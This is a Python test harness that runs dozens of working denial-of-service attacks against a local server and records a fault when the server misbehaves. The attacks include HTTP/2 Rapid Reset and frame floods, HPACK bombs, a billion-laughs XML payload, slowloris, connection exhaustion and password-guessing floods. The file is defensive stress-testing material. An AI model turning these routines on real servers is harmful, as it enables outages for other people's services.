"""Attacks on a server, one function each, and the process that goes on with them until it is told to end.

Usage: attacks.py TARGET NAME… OUT   TARGET: JSON, see class Target. Ends when standard input does. OUT is
a pickled dict: steps (how many, by name), ends (rounds that the server ended), faults.

An attack is a generator. It takes one step, yields the least pause before the next one, and ends with its
round; then the next round begins. OSError and Closed mean that the server ended the connection, which is its
right. What no peer may get is a Fault. None comes from an honest client's address: they come from one, and
from address(n) where an attack takes many clients.
"""
import contextlib
import json
import mmap
import os
import pickle
import random
import socket
import struct
import sys
import threading
import time
import traceback

from hyperframe import frame as hf

import client
import h1client
import procs
from glitches import PRICES, Acts
from keyupdates import KeyUpdates
from users import basic

ADDRESS = "127.0.0.66"
SHARE = 0.02  # of a processor that an attack may take for itself: two dozen leave the server most of two
CROWD = 20  # connections of an attack that takes many
WINDOW = hf.SettingsFrame.INITIAL_WINDOW_SIZE
catalogue = {}


def address(n):
	"""Of the n-th of many attackers."""
	return "127.0.%d.%d" % (66 + n // 250, 1 + n % 250)


class Fault(Exception):
	"""The server did what it must not."""


class Target:
	"""
	ports: by "tcp", "tls", and "h1" where cleartext HTTP/1 has another. root: the tree, which some edit; scene.py says what lies in it. share: of a
	processor that an attack may take. crowd: how many connections an attack makes that takes many.
	"""

	def __init__(self, ports, root, share=SHARE, crowd=CROWD):
		self.ports, self.root, self.share, self.crowd = ports, root, share, crowd

	def path(self, name):
		return os.path.join(self.root, name)

	def socket(self, how="tcp", source=ADDRESS):
		return client.tcp_socket(self.ports[how], source=source)

	def tls(self, alpn="h2", source=ADDRESS):
		return client.tls_context(alpn=(alpn,)).wrap_socket(self.socket("tls", source),
			server_hostname="localhost")

	def raw(self, how="tcp", window=65535, source=ADDRESS):
		return client.Raw(self.tls(source=source) if how == "tls" else self.socket(source=source),
			settings={WINDOW: window})

	def h1(self, how="tcp", source=ADDRESS):
		return h1client.H1(self.tls("http/1.1", source) if how == "tls" else self.socket("h1" if "h1" in self.ports else how,
			source))


def attack(function):
	catalogue[function.__name__] = function
	return function


def beside(*asks):
	"""What honest clients ask for (honest.QUESTIONS) where scripts/attack shows what they get beside it."""
	def mark(function):
		function.asks = asks
		return function
	return mark


# --- HTTP/2: windows ------------------------------------------------------------------------------

def streams(raw, paths, first=1):
	raw.send(*(raw.headers(first + 2 * i, raw.head(path)) for i, path in enumerate(paths)))


@attack
def zero_window_pings(t):
	"""Keeps streams open whose windows are closed, by pings."""
	with t.raw(window=0) as raw:
		streams(raw, ["/still/disk.bin"] * 8)
		for _ in range(60):
			raw.send(hf.PingFrame(0, b"12345678"))
			yield 0.3


@attack
def heads_over_closed_windows(t):
	"""Keeps them open by replies to HEAD."""
	with t.raw("tls", window=0) as raw:
		streams(raw, ["/still/disk.bin"] * 8)
		for n in range(60):
			raw.send(raw.headers(101 + 2 * n, raw.head("/still/small.txt", "HEAD")))
			yield 0.3


@attack
def one_byte_windows(t):
	"""A hundred streams that take one byte now and then."""
	with t.raw(window=1) as raw:
		streams(raw, ["/still/disk.bin"] * 100)
		for n in range(40):
			raw.send(*(hf.WindowUpdateFrame(1 + 2 * (n * 10 + i) % 200 | 1, window_increment=1)
				for i in range(10)))
			yield 0.5


FILES = "disk", "part", "condition", "missing", "listing", "upload"


def hold(t, connect, begin, go_on):
	"""begin() on each of many connections, and from then on go_on(), forty times on each."""
	held = []
	try:
		for n in range(t.crowd):
			held.append(connect(n))
			begin(held[-1], n)
			yield 0.005
		for turn in range(40):
			for c in held:
				go_on(c, turn)
				yield 0.5 / len(held)
	finally:
		for c in held:
			c.close()


def files_held(t, source):
	"""Many connections with 16 files each, of which they take a byte now and then."""
	yield from hold(t, lambda n: t.raw(window=1, source=source(n)),
		lambda raw, n: streams(raw, ["/still/disk.bin"] * 16),
		lambda raw, turn: raw.send(hf.WindowUpdateFrame(1 + 2 * (turn % 16), window_increment=1)))


@attack
@beside(*FILES)
def files_held_by_one(t):
	"""Thousands of downloads over closed windows, of one client."""
	yield from files_held(t, lambda n: ADDRESS)


@attack
@beside(*FILES)
def files_held_by_many(t):
	"""The same, of many clients."""
	yield from files_held(t, address)


UPLOADS = "upload", "far_upload"


def put(raw, path, length=None):
	"""An upload begins, of a user that attackers know."""
	said = [("content-length", str(length))] if length else []
	raw.send(raw.headers(1, raw.head(path, "PUT", basic("bob", "bobs") + said), end_stream=False))


def held_window(t, source):
	"""Long uploads of which hardly anything comes."""
	yield from hold(t, lambda n: t.raw(source=source(n)),
		lambda raw, n: put(raw, "/files/held-%d" % (n % 50), 1 << 29),
		lambda raw, turn: raw.send(hf.DataFrame(1, bytes(100))))


@attack
@beside(*UPLOADS)
def windows_held_by_one(t):
	"""Uploads that hardly go on, on many connections of one client."""
	yield from held_window(t, lambda n: ADDRESS)


@attack
@beside(*UPLOADS)
def windows_held_by_many(t):
	"""The same, of many clients."""
	yield from held_window(t, address)


@attack
@beside(*UPLOADS)
def windows_left_over(t):
	"""Connections that stay behind an upload whose length was not told."""
	def begin(raw, n):
		put(raw, "/files/left-%d" % (n % 50))
		for _ in range(3):
			raw.send(hf.DataFrame(1, bytes(16000)))
		raw.until(lambda f: isinstance(f, hf.WindowUpdateFrame) and f.stream_id == 0)
		raw.send(hf.DataFrame(1, bytes(16000), flags=["END_STREAM"]))
	yield from hold(t, lambda n: t.raw(), begin, lambda raw, turn: raw.send(hf.PingFrame(0, b"12345678")))


@attack
@beside(*FILES)
def files_held_by_readers(t):
	"""Downloads over HTTP/1 that nobody reads, of many clients."""
	yield from hold(t, lambda n: t.h1(source=address(n)),
		lambda c, n: c.send_bytes(b"GET /still/large.bin HTTP/1.1\r\nhost: localhost\r\n\r\n"),
		lambda c, turn: None)


@attack
@beside(*FILES)
def files_held_by_uploads(t):
	"""Uploads that come a byte at a time."""
	numbers = range(1, 33, 2)
	fields = basic("bob", "bobs") + [("content-length", "100000")]
	yield from hold(t, lambda n: t.raw(source=address(n)),
		lambda raw, n: raw.send(*(raw.headers(i, raw.head("/files/held-%d-%d" % (n, i), "PUT", extra=fields),
			end_stream=False) for i in numbers)),
		lambda raw, turn: raw.try_send(b"".join(hf.DataFrame(i, b"x").serialize() for i in numbers)))


@attack
def held_streams_over_images(t):
	"""Each begins on another image and stands still."""
	with t.raw(window=100) as raw:
		for n in range(20):
			streams(raw, ["/turn/p%d.bin" % (n % 4), "/turn/r%d.txt" % (n % 4)], 1 + 4 * n)
			yield 0.7


def held(t, path):
	with t.raw(window=0) as raw:
		for n in range(20):
			streams(raw, [path] if n < 12 else [], 1 + 2 * n)
			yield 0.6


@attack
def listings_held(t):
	"""Long listings that nobody reads."""
	return held(t, "/many/")


@attack
def archives_held(t):
	"""Archives of a long directory that nobody reads."""
	return held(t, "/many/?archive=tar")


@attack
def archives_by_many(t):
	"""Archives of names and of files, which many clients take slowly."""
	yield from hold(t, lambda n: t.raw(source=address(n)),
		lambda raw, n: streams(raw, [("/many/", "/still/")[n % 2] + "?archive=tar"]),
		lambda raw, turn: raw.send(*(hf.WindowUpdateFrame(n, window_increment=1 << 15) for n in (0, 1))))


@attack
def unread_downloads(t):
	"""Windows are open, but nobody reads the socket."""
	with t.raw("tls", window=2**31 - 1) as raw:
		raw.send(hf.WindowUpdateFrame(0, window_increment=2**30))
		streams(raw, ["/still/large.bin", "/still/cached.txt"] * 4)
		for _ in range(20):
			yield 0.5


# --- HTTP/2: work without use ---------------------------------------------------------------------

def ended(t, end, step, pause, frame):
	"""Streams up to end, each begun and ended by a frame of the client; step / 2 of them at once."""
	with t.raw() as raw:
		raw.send(raw.headers(1, raw.head("/still/disk.bin")))
		block = raw.encoder.encode(raw.head("/still/disk.bin"))
		for start in range(3, end, step):
			raw.send_bytes(b"".join(raw.headers(n, block=block).serialize() + frame(n).serialize()
				for n in range(start, start + step, 2)))
			yield pause


@attack
def rapid_reset(t):
	return ended(t, 40001, 200, 0.02, lambda n: hf.RstStreamFrame(n, error_code=8))


@attack
def made_you_reset(t):
	"""The server resets the streams itself: windows overflow."""
	return ended(t, 20001, 100, 0.05, lambda n: hf.WindowUpdateFrame(n, window_increment=2**31 - 1))


@attack
def listings_reset(t):
	"""Work for threads that nobody wants any more."""
	with t.raw() as raw:
		for start in range(1, 2000, 40):
			raw.send(*(frame for n in range(start, start + 40, 2) for frame in (
				raw.headers(n, raw.head("/many/?%d" % n)), hf.RstStreamFrame(n, error_code=8))))
			yield 0.3


@attack
def data_after_end(t):
	with t.raw("tls") as raw:
		raw.send(raw.headers(1, raw.head("/still/disk.bin")), hf.DataFrame(1, b"more"))
		raw.goaway()
		yield 0.3


def flood(raw, frames):
	for _ in range(100):
		raw.send_bytes(frames)
		yield 0.1


@attack
def pings(t):
	with t.raw() as raw:
		yield from flood(raw, hf.PingFrame(0, b"12345678").serialize() * 200)


@attack
def settings(t):
	with t.raw() as raw:
		yield from flood(raw, hf.SettingsFrame(0, settings={WINDOW: 65535}).serialize() * 100)


@attack
def empty_data(t):
	with t.raw() as raw:
		raw.send(raw.headers(1, raw.head(method="POST"), end_stream=False))
		yield from flood(raw, hf.DataFrame(1, b"").serialize() * 200)


@attack
def continuations(t):
	with t.raw() as raw:
		raw.send(raw.headers(1, end_headers=False))
		yield from flood(raw, hf.ContinuationFrame(1, b"\x00\x01a\x01b").serialize() * 50)


@attack
def glitches(t):
	"""Work without use of each kind, as much of it as one connection may do and then some."""
	for name in PRICES:
		with contextlib.suppress(OSError, client.Closed), t.raw(window=1 if name == "one_byte_windows" else 65535) as raw:
			act = getattr(Acts(raw), name)
			for n in range(0, 7000 // PRICES[name], 100):
				raw.send(*(frame for i in range(n, n + 100) for frame in act(i)))
				yield 0.02


@attack
def hpack_references(t):
	"""One byte each for four kilobytes: CPU."""
	with t.raw() as raw:
		raw.send(raw.headers(1, raw.head(extra=[("x-bomb", "b" * 3900)])))
		for n in range(3, 43, 2):
			raw.send(raw.headers(n, block=raw.encoder.encode(raw.head()) + b"\xbe" * 16000))
			yield 0.3


@attack
def fields_that_pin(t):
	"""The same within the limits, for requests that last: memory."""
	with t.raw(window=0) as raw:
		extra = [("x-bomb", "b" * 3900)]
		raw.send(raw.headers(1, raw.head("/still/disk.bin", extra=extra)))
		for n in range(3, 200, 2):
			raw.send(raw.headers(n, block=raw.encoder.encode(raw.head("/still/disk.bin"))
				+ b"\xbe" * 7))
			yield 0.1


@attack
def huffman_literals(t):
	"""Fields that are long only when they are decoded, within the limits."""
	with t.raw() as raw:
		for n in range(1, 401, 2):
			raw.send(raw.headers(n, raw.head("/still/small.txt", extra=[("x-long", "0" * 20000)])))
			raw.pump(0.01)
			raw.frames.clear()
			yield 0.1


@attack
def streams_over_the_limit(t):
	"""Far more at once than may be open."""
	with t.raw(window=0) as raw:
		for n in range(20):
			streams(raw, ["/still/disk.bin"] * 50, 1 + 100 * n)
			yield 0.3


@attack
def key_updates(t):
	"""TLS records that are work and no bytes."""
	c = KeyUpdates(t.ports["tls"], ADDRESS)
	try:
		for _ in range(3):
			c.fill(3000)
			yield 0.5
	finally:
		c.close()


# --- drives ---------------------------------------------------------------------------------------

def ask_drive(raw, n, method, path, fields=(), body=b""):
	raw.send(raw.headers(n, raw.head("/files/" + path, method, basic("bob", "bobs") + list(fields)), end_stream=not body))
	if body:
		raw.send(hf.DataFrame(n, body, flags=["END_STREAM"]))


@attack
@beside(*UPLOADS)
def drive_lists_held(t):
	"""Lists of a long directory of a drive that nobody reads."""
	with t.raw(window=0) as raw:
		for n in range(100):
			ask_drive(raw, 1 + 2 * n, "PROPFIND", "many/", [("depth", "1")])
			yield 0.1


@attack
@beside(*UPLOADS)
def drive_lists_reset(t):
	"""The same, and each is reset at once."""
	with t.raw() as raw:
		for n in range(400):
			ask_drive(raw, 1 + 2 * n, "PROPFIND", "many/", [("depth", "1")])
			raw.send(hf.RstStreamFrame(1 + 2 * n, error_code=8))
			yield 0.02


@attack
@beside(*UPLOADS)
def drive_copies(t):
	"""Copies and moves of a deep directory, and their removal."""
	deep = "/".join("deeper")
	to = "copy-%d" % number()
	with t.raw() as raw:
		for n, (method, path, fields) in enumerate([("COPY", "deep", [("destination", "/files/" + to)]),
				("MOVE", to, [("destination", "/files/%s-moved" % to)]), ("PROPFIND", to + "-moved/" + deep, [("depth", "0")]),
				("MOVE", "%s-moved/d" % to, [("destination", "/files/%s-moved/e" % to)]), ("DELETE", to + "-moved", [])] * 8):
			ask_drive(raw, 1 + 2 * n, method, path, fields)
			raw.until(lambda f: f.stream_id == 1 + 2 * n and "END_STREAM" in f.flags)
			yield 0.05


@attack
def billion_laughs(t):
	"""Entities of entities in the XML of PROPFIND and PROPPATCH."""
	entities = "".join('<!ENTITY l%d "%s">' % (i, "&l%d;" % (i - 1) * 10) for i in range(1, 10))
	body = ('<!DOCTYPE x [<!ENTITY l0 "ha">%s]><D:propfind xmlns:D="DAV:"><D:prop><D:a>&l9;</D:a></D:prop></D:propfind>' % entities).encode()
	with t.raw() as raw:
		for n in range(40):
			ask_drive(raw, 1 + 2 * n, ("PROPFIND", "PROPPATCH")[n % 2], "many/", [("depth", "0")], body)
			answer = raw.until(lambda f: isinstance(f, hf.HeadersFrame) and f.stream_id == 1 + 2 * n)
			if answer is not None and answer.fields[":status"] not in ("400", "429", "503"):
				raise Fault("entities are answered %s" % answer.fields[":status"])
			yield 0.05


# --- HTTP/1 ---------------------------------------------------------------------------------------

def status_or_end(c):
	"""The status of the next response; None: the connection ended without."""
	try:
		return c.response().status
	except client.Closed:
		return None


def bad(t, request, allowed, how="tcp"):
	"""Sends bytes and looks at what is answered."""
	with t.h1(how) as c:
		c.ask()
		c.send_bytes(request)
		status = status_or_end(c)
		if status not in allowed:
			raise Fault("%r is answered %s" % (request[:80], status))


@attack
def chunk_framing(t):
	"""Framing that others would read differently."""
	for body in (b"0_2e\r\n", b"\r\n0\r\n\r\n", b"5\r\r;x\r\nhello\r\n0\r\n\r\n", b"5;\r\nhello\r\n0\r\n\r\n",
			b"-1\r\n\r\n", b"fffffffffffffffff\r\n"):
		bad(t, b"GET /still/small.txt HTTP/1.1\r\nhost: localhost\r\ntransfer-encoding: chunked\r\n\r\n"
			+ body, (400, None))
		yield 0.2


@attack
def many_ranges(t):
	"""Nine hundred pieces of a byte each."""
	ranges = b",".join(b"%d-%d" % (n, n) for n in range(0, 5400, 6))
	bad(t, b"GET /still/disk.bin HTTP/1.1\r\nhost: localhost\r\nrange: bytes=%s\r\n\r\n" % ranges, (200, 206, 416, None))
	yield 0.3


@attack
def unread_pipelines(t):
	"""Requests one behind the other, and nobody reads the answers."""
	with t.h1() as c:
		for _ in range(20):
			c.send_bytes(b"GET /still/cached.txt HTTP/1.1\r\nhost: localhost\r\n\r\n" * 50)
			yield 0.3


@attack
def malformed_targets(t):
	with t.raw() as raw:
		for n in range(100):
			raw.send(*(raw.headers(1 + 2 * i, raw.head("/%zz"))
				for i in range(n * 10, n * 10 + 10)))
			for i in range(n * 10, n * 10 + 10):
				if raw.status_of(1 + 2 * i) not in (400, "closed", "reset"):
					raise Fault("a malformed target is answered")
			raw.frames.clear()
			yield 0.05


@attack
def long_redirects(t):
	"""A head that no reply can have."""
	for target in (b"/old/" + b"x" * 25000, b"/old/" + b"%e9" * 8000):
		bad(t, b"GET " + target + b" HTTP/1.1\r\nhost: localhost\r\n\r\n", (301, 414, 431, 500, None))
		with t.raw() as raw:
			raw.send(raw.headers(1, raw.head(target.decode())))
			if raw.status_of(1) not in (301, 414, 431, 500, "reset", "closed"):
				raise Fault("a long redirect")
		yield 0.5


@attack
def fifo_get(t):
	"""Nobody opens it: whoever writes into it would get a signal."""
	bad(t, b"GET /still/fifo HTTP/1.1\r\nhost: localhost\r\n\r\n", (403, 404, None))
	try:
		os.close(os.open(t.path("still/fifo"), os.O_WRONLY | os.O_NONBLOCK))
		raise Fault("somebody reads the FIFO")
	except OSError:
		yield 0.3


@attack
def aliases_of_secrets(t):
	"""What asks for a password by one name does so by all."""
	for path in ("in/secret.txt", "in/secret.txt.gz", "files/secret.txt", "files//secret.txt", "in/%73ecret.txt"):
		bad(t, b"GET /%s HTTP/1.1\r\nhost: localhost\r\n\r\n" % path.encode(), (401, None))
		yield 0.2


@attack
def wrong_passwords(t):
	"""Ten a second, on one connection."""
	with t.raw() as raw:
		for n in range(100):
			fields = basic("bob", "guess %d" % random.randrange(10**9))
			raw.send(raw.headers(1 + 2 * n, raw.head("/in/secret.txt", extra=fields)))
			raw.pump(0.01)
			if any(f.fields.get(":status") == "200" for f in raw.frames
					if isinstance(f, hf.HeadersFrame)):
				raise Fault("a guess is a password")
			raw.frames.clear()
			yield 0.1


def guesses(t, source, n):
	"""From n addresses, nine wrong passwords of one user outstanding on each."""
	held = [t.raw(source=source(i)) for i in range(n)]
	try:
		for stream in range(1, 2 * 9 * 20, 2):
			for raw in held:
				fields = basic("bob", "guess %d" % random.randrange(10**9))
				raw.send(raw.headers(stream, raw.head("/in/secret.txt", extra=fields)))
				raw.pump(0.001)
				raw.frames.clear()
				yield 0.01 if stream < 18 else 0.5 / n
	finally:
		for raw in held:
			raw.close()


@attack
@beside("right_password")
def guesses_by_one(t):
	"""Two a second, of one client."""
	yield from guesses(t, lambda n: ADDRESS, 1)


@attack
@beside("right_password")
def guesses_by_many(t):
	"""The same, of many clients."""
	yield from guesses(t, address, min(t.crowd, 20))


@attack
@beside("small", "upload")
def bodies_before_passwords(t):
	"""Long bodies over HTTP/1, which come before their passwords are known to be wrong."""
	held = []
	try:
		for n in range(t.crowd):
			held.append(t.h1("tcp", source=address(n)))
			fields = basic("bob", "guess %d" % random.randrange(10**9)) + [("content-length", "600000")]
			held[-1].send_bytes(held[-1].head("PUT", "/files/guessed", fields))
			held[-1].sock.setblocking(False)
			try:
				held[-1].sock.send(bytes(600000))
			except BlockingIOError:
				pass
			yield 0.02
		for c in held:
			c.ask("PUT", "/files/guessed")
			if status_or_end(c) not in (401, 429, 503, None):
				raise Fault("a guess is a password")
			yield 0.02
	finally:
		for c in held:
			c.close()


def drip(c, head, piece, times, pause):
	c.send_bytes(head)
	for _ in range(times):
		c.send_bytes(piece)
		yield pause


@attack
def slow_bodies(t):
	"""Nobody takes them, and they come a byte at a time."""
	with t.h1() as c, t.raw() as raw:
		raw.send(raw.headers(1, raw.head(method="POST"), end_stream=False))
		for pause in drip(c, b"POST / HTTP/1.1\r\nhost: localhost\r\ncontent-length: 1000\r\n\r\n",
				b"x", 60, 0.4):
			raw.send(hf.DataFrame(1, b"x"))
			yield pause


@attack
def slow_heads(t):
	with t.h1("tls") as c:
		yield from drip(c, b"GET / HTTP/1.1\r\nx: ", b"y", 60, 0.4)


# --- connections ----------------------------------------------------------------------------------

def crowd(t, how, first):
	"""Far more connections than a worker has room for."""
	crowd = []
	try:
		for _ in range(12):
			for _ in range(30):
				crowd.append(t.socket(how))
				crowd[-1].sendall(first)
			yield 0.3
		for _ in range(10):
			yield 0.5
	finally:
		for s in crowd:
			s.close()


@attack
def idle_crowd(t):
	"""Idle after a request."""
	yield from crowd(t, "tcp", b"GET /still/small.txt HTTP/1.1\r\nhost: localhost\r\n\r\n")


@attack
def silent_crowd(t):
	"""They never say anything."""
	for how in ("tcp", "tls"):
		yield from crowd(t, how, b"")


@attack
def half_hellos(t):
	"""They say half of a ClientHello."""
	yield from crowd(t, "tls", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100))


@attack
def handshakes(t):
	"""One after the other, and no request."""
	for _ in range(200):
		with t.tls():
			yield 0.02


@attack
def half_closed_jobs(t):
	"""Asks for what takes a thread, and is gone."""
	for n in range(40):
		with t.socket() as s:
			s.sendall(b"GET /many/?%d HTTP/1.1\r\nhost: localhost\r\n\r\n" % n)
			if n % 2:
				s.shutdown(socket.SHUT_WR)
			yield 0.1


@attack
def sudden_ends(t):
	"""Resets in the middle of everything."""
	for n in range(40):
		with t.socket() as s:
			s.sendall(b"GET /still/large.bin HTTP/1.1\r\nhost: localhost\r\n\r\n"
				+ b"GET /turn/p1.bin HTTP/1.1\r\nhost: localhost\r\n\r\n")
			s.recv(1000)
			s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
		yield 0.1


@attack
def broken_handshakes(t):
	"""Half a hello, and what is none; nonsense where TLS is not."""
	for how, said in (("tls", b"\x16\x03\x01\x02\x00\x01"), ("tls", b"GET / HTTP/1.1\r\n\r\n"),
			("tls", bytes(500)), ("tcp", b"nonsense " * 10), ("tcp", b"\x16\x03\x01\x02\x00\x01")):
		with t.socket(how) as s:
			s.sendall(said)
			yield 0.1


# --- the tree -------------------------------------------------------------------------------------

def whole(n, size):
	"""Of a version, which each of its lines tells."""
	line = b"version %012d\n" % n
	return (line * (size // len(line) + 1))[:size // len(line) * len(line)]


def number():
	return time.monotonic_ns() // 1000


@attack
def renamed_files(t):
	"""Each turns the image over."""
	for n in range(40):
		path = t.path("turn/r%d.txt" % (n % 4))
		with open(path + ".new", "wb") as f:
			f.write(whole(number(), 20000 + 1000 * (n % 7)))
		os.rename(path + ".new", path)
		yield 0.15


@attack
def files_written_in_place(t):
	for n in range(40):
		with open(t.path("turn/p%d.bin" % (n % 4)), "r+b", buffering=0) as f:
			f.write(whole(number(), 100000))
		yield 0.25


@attack
def files_that_come_and_go(t):
	for n in range(20):
		path = t.path("turn/d%d.txt" % n)
		with open(path, "wb") as f:
			f.write(whole(number(), 3000))
		yield 0.2
		os.unlink(path)


@attack
def stores_through_mmap(t):
	"""As linkers and databases do it. What is stored and closed is served, soon."""
	path = t.path("turn/m.bin")
	for _ in range(20):
		data = whole(number(), 8192)
		with open(path, "r+b") as f, mmap.mmap(f.fileno(), 0) as m:
			for at in range(0, len(data), 2048):
				m[at:at + 2048] = data[at:at + 2048]
				yield 0.05
		until = time.monotonic() + 2 * procs.DEADLINE
		while True:
			with t.h1() as c:
				if c.get("/turn/m.bin").body == data:
					break
			if time.monotonic() > until:
				raise Fault("what was stored through mmap is not served")
			yield 0.1


# --- the process ----------------------------------------------------------------------------------

class Attacker(threading.Thread):
	"""Goes on with one attack."""

	def __init__(self, name, target, stop):
		super().__init__(name=name)
		self.target, self.stop = target, stop
		self.steps = self.ends = 0
		self.faults = []

	def round(self):
		steps = catalogue[self.name](self.target)
		began = time.thread_time()
		try:
			for pause in steps:
				self.steps += 1
				took = time.thread_time() - began
				if self.stop.wait(max(pause, took / self.target.share)):
					break
				began = time.thread_time()
		finally:
			steps.close()

	def run(self):
		while not self.stop.is_set() and len(self.faults) < 5:
			try:
				self.round()
			except (OSError, client.Closed, client.Late):
				self.ends += 1
			except Exception:  # a fault, or ours: either is seen
				self.faults.append("%s: %s" % (self.name, traceback.format_exc(limit=-2)))
			self.stop.wait(0.2)


def main(target, *names):
	stop = threading.Event()
	attackers = [Attacker(name, Target(**json.loads(target)), stop) for name in names]
	for a in attackers:
		a.start()
	print("running", flush=True)
	sys.stdin.read()
	with contextlib.suppress(AssertionError):  # a busy machine has not come to all of them
		procs.wait_for(lambda: all(a.steps > 1 or a.faults for a in attackers))
	stop.set()
	for a in attackers:
		a.join()
	return dict(steps={a.name: a.steps for a in attackers}, ends={a.name: a.ends for a in attackers},
		faults=[fault for a in attackers for fault in a.faults])


if __name__ == "__main__":
	found = main(*sys.argv[1:-1])
	with open(sys.argv[-1], "wb") as out:
		pickle.dump(found, out)
